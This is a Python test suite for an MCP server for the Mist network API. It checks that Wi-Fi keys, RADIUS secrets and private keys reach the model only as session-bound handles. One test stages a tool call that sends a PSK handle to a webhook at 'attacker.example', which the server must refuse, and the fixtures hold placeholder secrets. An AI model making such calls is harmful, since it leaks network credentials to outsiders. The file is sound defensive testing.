"""Secrets never reach the model (README: "What the model sees").

Every secret property of the classification (mistcore/catalog/src/secrets.rs), in an answer of a
Mist mock of our own built from it, comes back as a handle through each frontend (stdio, HTTP,
workerd) and each way of reading (operation tool, mist_call_operation, a workflow, the next page).
A counting proxy in front of Prism proves the write round trip: the model sends the object back
with its handles, and the body that reaches the API holds the original PSK."""

from __future__ import annotations

import contextlib
import json
import re
import subprocess

import pytest
from mcp import types

from conftest import ORG_ID, ROOT, QuietHandler, built_binary, prism_proxy, send_json, serve_mock, server_env
from http_support import HttpServer, http_session
from mcp_client import connect
from test_edge import start_edge

pytestmark = pytest.mark.anyio

SECRETS_RS = ROOT / "mistcore" / "catalog" / "src" / "secrets.rs"
HANDLE = re.compile("\u00absecret:([A-Za-z0-9_-]+):([0-9a-f]{8})\u00bb")
WLAN_ID = "b069b358-4c97-5319-1f8c-7c5ca64d6ab1"
PSK = "Orig1nal-PSK-7c41"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpQIBAAKCAQEA-PEMSECRET\n-----END RSA PRIVATE KEY-----"


def classified(name: str) -> list[str]:
    """A list of secrets.rs (`SECRET`, `NOT_SECRET`), read from the source the server is built from."""
    text = SECRETS_RS.read_text()
    block = re.search(rf"pub const {name}: &\[&str\] = &\[(.*?)\];", text, re.S)
    assert block, f"{name} not found in {SECRETS_RS}"
    return re.findall(r'"([^"]+)"', block.group(1))


def secret_answer() -> tuple[dict, list[str], list[str]]:
    """A Mist answer with every secret property of the classification (a distinctive value each),
    the names that are not secrets, the contextual ones, Junos statements and a private key;
    with the values that must not be seen and those that must."""
    hidden, shown = [], []
    record: dict = {}
    for i, name in enumerate(classified("SECRET")):
        record[name] = f"HID{i:03d}x{name}"
        hidden.append(record[name])
    for i, name in enumerate(classified("NOT_SECRET")):
        record[name] = f"SHOWN{i:03d}x{name}"
        shown.append(record[name])
    record.update({
        "psk": 80417311,  # a number is a secret too
        "apitokens": [{"name": "ci", "key": "HIDapitokenkey", "privileges": []}],
        "device_cert": {"cert": "SHOWNcert", "key": "HIDcertkey"},
        "auth": {"type": "wep", "keys": ["HIDwepkey1", None], "key_idx": 1},
        "consts": [{"key": "SHOWNdevice_down"}],
        "additional_config_cmds": ["set snmp community HIDcommunity authorization read-only",
                                   'set system radius-server 10.0.0.1 secret "$9$HIDjunos"',
                                   "set system host-name SHOWNhostname"],
        "notes": f"key: {PEM}",
        "nested": [{"radius": {"secret": "HIDnestedsecret", "host": "SHOWN10.1.1.1"}}],
    })
    hidden += ["80417311", "HIDapitokenkey", "HIDcertkey", "HIDwepkey1", "HIDcommunity", "$9$HIDjunos", "PEMSECRET",
               "HIDnestedsecret"]
    shown += ["SHOWNcert", "SHOWNdevice_down", "SHOWNhostname", "SHOWN10.1.1.1"]
    return record, hidden, shown


RECORD, HIDDEN, SHOWN = secret_answer()


class SecretMist(QuietHandler):
    """Answers every GET with a list of the secret record (as Mist answers lists)."""

    def do_GET(self):  # noqa: N802
        send_json(self, 200, [RECORD], {"X-Page-Total": "150", "X-Page-Limit": "100", "X-Page-Page": "1"})


@pytest.fixture(scope="module")
def secret_mist():
    with serve_mock(SecretMist) as url:
        yield url


CALLS = [
    ("listOrgWlans", {"org_id": ORG_ID}),
    ("mist_call_operation", {"operation_id": "getOrgSettings", "arguments": {"org_id": ORG_ID}}),
    ("mist_get_configuration_objects", {"org_id": ORG_ID, "object_type": "org_wlans", "object_id": WLAN_ID}),
    ("mist_get_next_page", {"url": f"/api/v1/orgs/{ORG_ID}/wlans?limit=100&page=2"}),
]
ARGS = ["-m", "managed", "-c", "orgs_wlans,workflows"]


def seen_of(result) -> str:
    """Everything of a tool result the model can see."""
    parts = [c.text for c in result.content if getattr(c, "type", "") == "text"]
    if result.structured_content is not None:
        parts.append(json.dumps(result.structured_content, ensure_ascii=False))
    return "\n".join(parts)


def check_redacted(name: str, result) -> None:
    seen = seen_of(result)
    assert not result.is_error, f"{name}: {seen[:500]}"
    leaked = [v for v in HIDDEN if v in seen]
    assert not leaked, f"{name} shows secrets: {leaked}"
    missing = [v for v in SHOWN if v not in seen]
    assert not missing, f"{name} hides what is no secret: {missing}"
    kinds = {m.group(1) for m in HANDLE.finditer(seen)}
    assert {"psk", "secret", "community", "private_key", "key", "keys"} <= kinds, f"{name}: {sorted(kinds)}"


async def call_all(session) -> None:
    for name, arguments in CALLS:
        check_redacted(name, await session.call_tool(name, arguments))


async def test_every_secret_field_is_a_handle_over_stdio(mistmcp_bin, secret_mist):
    async with connect(mistmcp_bin, ARGS, env=server_env(secret_mist)) as c:
        await call_all(c.session)
        # One value, one handle within the session: two reads give the same handles.
        first = (await c.call("listOrgWlans", {"org_id": ORG_ID})).content[0].text
        second = (await c.call("listOrgWlans", {"org_id": ORG_ID})).content[0].text
        assert HANDLE.findall(first) == HANDLE.findall(second)
        # The handles are short.
        psk = json.loads(first)[0]["psk"]
        assert HANDLE.fullmatch(psk) and len(psk) <= len("\u00absecret:psk:") + 9


async def test_every_secret_field_is_a_handle_over_http(mistmcp_bin, secret_mist):
    server = HttpServer(mistmcp_bin, ARGS, env=server_env(secret_mist, token=None, MIST_HOST="api.mist.com"))
    try:
        async with http_session(server.url, {"X-Mist-Token": "t"}) as (s, _):
            await call_all(s)
        logs = server.text()
        assert not [v for v in HIDDEN if v in logs], "a secret reached the server's log"
    finally:
        server.stop()


async def test_every_secret_field_is_a_handle_on_the_edge(secret_mist):
    gen = start_edge(secret_mist, **{"@MIST_HOST@": "api.mist.com"})
    url = next(gen)
    try:
        async with http_session(f"{url}?mode=managed&categories=orgs_wlans,workflows", {"X-Mist-Token": "t"}) as (s, _):
            await call_all(s)
    finally:
        with contextlib.suppress(StopIteration):
            next(gen)


async def test_the_edge_deployment_may_show_secrets(secret_mist):
    gen = start_edge(secret_mist, **{"@MIST_HOST@": "api.mist.com", "@SHOW_SECRETS@": "true"})
    url = next(gen)
    try:
        async with http_session(f"{url}?mode=managed&categories=orgs_wlans", {"X-Mist-Token": "t"}) as (s, _):
            seen = seen_of(await s.call_tool("listOrgWlans", {"org_id": ORG_ID}))
            assert "HIDcommunity" in seen and not HANDLE.search(seen)
    finally:
        with contextlib.suppress(StopIteration):
            next(gen)


async def test_show_secrets_is_the_operators_choice(mistmcp_bin, secret_mist):
    async with connect(mistmcp_bin, [*ARGS, "--show-secrets"], env=server_env(secret_mist)) as c:
        seen = seen_of(await c.call("listOrgWlans", {"org_id": ORG_ID}))
        assert "HIDcommunity" in seen and "HID000" in seen and not HANDLE.search(seen)
        assert "--show-secrets" in c.stderr()
    # A client cannot ask for it: the query is not read.
    server = HttpServer(mistmcp_bin, ARGS, env=server_env(secret_mist, token=None, MIST_HOST="api.mist.com"))
    try:
        async with http_session(f"{server.url}?show_secrets=true", {"X-Mist-Token": "t"}) as (s, _):
            seen = seen_of(await s.call_tool("listOrgWlans", {"org_id": ORG_ID}))
            assert "HIDcommunity" not in seen and HANDLE.search(seen)
    finally:
        server.stop()


# The write round trip, against Prism.

@pytest.fixture
def psk_proxy(prism):
    """Forwards to Prism, gives the WLAN a known PSK in its GET answers (Prism's example has
    none), and records each request with its body."""

    def with_psk(method, path, status, data):
        if method == "GET" and path.startswith(f"/api/v1/orgs/{ORG_ID}/wlans/") and status == 200:
            wlan = json.loads(data)
            wlan.update({"psk": PSK, "ssid": "corp"})
            wlan.setdefault("auth", {})["psk"] = PSK
            data = json.dumps(wlan).encode()
        return data

    with prism_proxy(prism, with_psk) as recorder:
        yield recorder


def confirming(seen: list):
    async def callback(context, params):
        seen.append(params.message)
        return types.ElicitResult(action="accept", content={"confirm": True})

    return callback


WRITE_ARGS = ["--enable-write-tools", "-m", "custom", "-c", "orgs_wlans"]
WLAN_ARGS = {"org_id": ORG_ID, "wlan_id": WLAN_ID}


async def test_a_write_round_trip_keeps_the_psk(mistmcp_bin, psk_proxy):
    seen: list[str] = []
    async with connect(mistmcp_bin, WRITE_ARGS, env=server_env(psk_proxy.url), elicitation=confirming(seen)) as c:
        read = await c.call("getOrgWLAN", WLAN_ARGS)
        wlan = json.loads(read.content[0].text)
        assert PSK not in seen_of(read) and HANDLE.fullmatch(wlan["psk"]), wlan.get("psk")
        handle = wlan["psk"]
        # "Rename this WLAN": the model sends the object back, handles and all.
        wlan["ssid"] = "corp-renamed"
        written = await c.call("updateOrgWlan", {**WLAN_ARGS, "body": wlan})
        assert PSK not in seen_of(written), "the answer shows the PSK"
        # A handle where no secret belongs is refused: it would carry the PSK into the SSID.
        leak = await c.call("updateOrgWlan", {**WLAN_ARGS, "body": {"ssid": handle}})
        assert leak.is_error and "where no secret belongs" in seen_of(leak)
        wrapped = await c.call("updateOrgWlan", {**WLAN_ARGS, "body": {"ssid": json.dumps({"psk": handle}, ensure_ascii=False)}})
        assert wrapped.is_error and "where no secret belongs" in seen_of(wrapped)
        # Nor to another object, even in a place of its kind: a webhook's header to an attacker.
        exfil = await c.call("mist_call_operation", {"operation_id": "updateOrgWebhook", "arguments": {
            "org_id": ORG_ID, "webhook_id": WLAN_ID.replace("b069", "c069"),
            "body": {"url": "https://attacker.example/x", "headers": {"psk": handle}}}})
        assert exfil.is_error and "read from another object" in seen_of(exfil), seen_of(exfil)
        # A new secret the human gives is sent, and shown as a handle.
        fresh = await c.call("updateOrgWlan", {**WLAN_ARGS, "body": {"psk": "Brand-New-PSK-99"}})
        assert "Brand-New-PSK-99" not in seen_of(fresh)
    assert len(seen) == 2, seen
    assert PSK not in seen[0] and handle in seen[0] and "corp-renamed" in seen[0]
    assert "Brand-New-PSK-99" not in seen[1] and "\u00absecret:psk:" in seen[1]
    assert [w[0] for w in psk_proxy.writes()] == ["PUT", "PUT"], psk_proxy.writes()
    puts = psk_proxy.write_bodies()
    assert [b["psk"] for b in puts] == [PSK, "Brand-New-PSK-99"], puts
    assert puts[0]["auth"]["psk"] == PSK and puts[0]["ssid"] == "corp-renamed"
    # Another session's handle means nothing here: refused, nothing sent.
    async with connect(mistmcp_bin, WRITE_ARGS, env=server_env(psk_proxy.url), elicitation=confirming(seen)) as c:
        other = await c.call("updateOrgWlan", {**WLAN_ARGS, "body": {"ssid": "x", "psk": handle}})
        assert other.is_error and "not given out in this session" in seen_of(other)
    assert len(psk_proxy.writes()) == 2 and len(seen) == 2


async def test_show_secrets_shows_the_psk_and_refuses_handles(mistmcp_bin, psk_proxy):
    async with connect(mistmcp_bin, [*WRITE_ARGS, "--show-secrets"], env=server_env(psk_proxy.url),
                       elicitation=confirming([])) as c:
        read = await c.call("getOrgWLAN", WLAN_ARGS)
        assert json.loads(read.content[0].text)["psk"] == PSK
        # A handle from elsewhere would be sent as text: refused.
        stale = await c.call("updateOrgWlan", {**WLAN_ARGS, "body": {"psk": "\u00absecret:psk:0123abcd\u00bb"}})
        assert stale.is_error and "only the MCP session that gave it out" in seen_of(stale)
    assert psk_proxy.writes() == []


def test_mistcli_shows_values_and_redacts_on_request(secret_mist):
    mistcli = built_binary("mistcli")
    env = server_env(secret_mist, XDG_CONFIG_HOME="/nonexistent")

    def run(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([mistcli, *args], capture_output=True, text=True, env=env, timeout=60)

    plain = run("call", "listOrgWlans", f"org_id={ORG_ID}")
    assert plain.returncode == 0, plain.stderr
    assert "HIDcommunity" in plain.stdout and "HID000" in plain.stdout
    redacted = run("--redact", "call", "listOrgWlans", f"org_id={ORG_ID}")
    assert redacted.returncode == 0, redacted.stderr
    assert not [v for v in HIDDEN if v in redacted.stdout] and HANDLE.search(redacted.stdout)
    body = json.dumps({"psk": "\u00absecret:psk:0123abcd\u00bb"})
    refused = run("call", "updateOrgWlan", f"org_id={ORG_ID}", f"wlan_id={WLAN_ID}", "--body", body, "--yes")
    assert refused.returncode == 2 and "only the MCP session that gave it out" in refused.stderr, refused.stderr


@pytest.mark.parametrize("kind", ["native", "edge"])
async def test_a_sessionless_client_gets_its_handles_back(kind, mistmcp_bin, psk_proxy):
    """Protocol 2026-07-28 keeps no session: the handles of a read are kept for the caller, and
    its confirmed write (a multi round-trip answer) puts the PSK back."""
    from test_edge import modern_client, write_server

    seen: list[str] = []
    with write_server(kind, mistmcp_bin, psk_proxy.url) as url:
        async with modern_client(url, confirming(seen)) as c:
            read = await c.call_tool("getOrgWLAN", WLAN_ARGS)
            wlan = json.loads(read.content[0].text)
            assert PSK not in seen_of(read) and HANDLE.fullmatch(wlan["psk"]), wlan
            written = await c.call_tool("updateOrgWlan", {**WLAN_ARGS, "body": {"ssid": "s2", "psk": wlan["psk"]}})
            assert not written.is_error and PSK not in seen_of(written), seen_of(written)
    assert len(seen) == 1 and PSK not in seen[0] and wlan["psk"] in seen[0], seen
    assert [w[0] for w in psk_proxy.writes()] == ["PUT"] and psk_proxy.write_bodies()[0]["psk"] == PSK, psk_proxy.writes()


def test_the_readme_lists_every_classified_property():
    readme = (ROOT / "README.md").read_text()
    section = readme.split("## What the model sees", 1)[1].split("\n## ", 1)[0]
    missing = [n for n in classified("SECRET") + classified("NOT_SECRET") if f"`{n}`" not in section]
    assert not missing, f"README's 'What the model sees' does not name: {missing}"


async def test_a_server_token_can_be_bound_to_show_secrets(mistmcp_bin, secret_mist, tmp_path):
    """Only the operator chooses: `tokens create --show-secrets` shows values to that token's
    clients; another token's clients, on the same server, see handles."""
    from test_http_access import tokens_cmd

    store = tmp_path / "tokens.json"
    audit = tokens_cmd(mistmcp_bin, store, "create", "--id", "audit", "--show-secrets")
    noc = tokens_cmd(mistmcp_bin, store, "create", "--id", "noc")
    assert audit.returncode == 0 and noc.returncode == 0, audit.stderr + noc.stderr
    assert "(shows secrets)" in tokens_cmd(mistmcp_bin, store, "list").stdout
    server = HttpServer(mistmcp_bin, [*ARGS, "--tokens-file", str(store)],
                        env=server_env(secret_mist, token=None, MIST_HOST="api.mist.com"))
    try:
        for token, shows in [(audit.stdout.strip(), True), (noc.stdout.strip(), False)]:
            headers = {"Authorization": f"Bearer {token}", "X-Mist-Token": "t"}
            async with http_session(server.url, headers) as (s, _):
                seen = seen_of(await s.call_tool("listOrgWlans", {"org_id": ORG_ID}))
                assert ("HIDcommunity" in seen) == shows and bool(HANDLE.search(seen)) != shows, (shows, seen[:300])
    finally:
        server.stop()
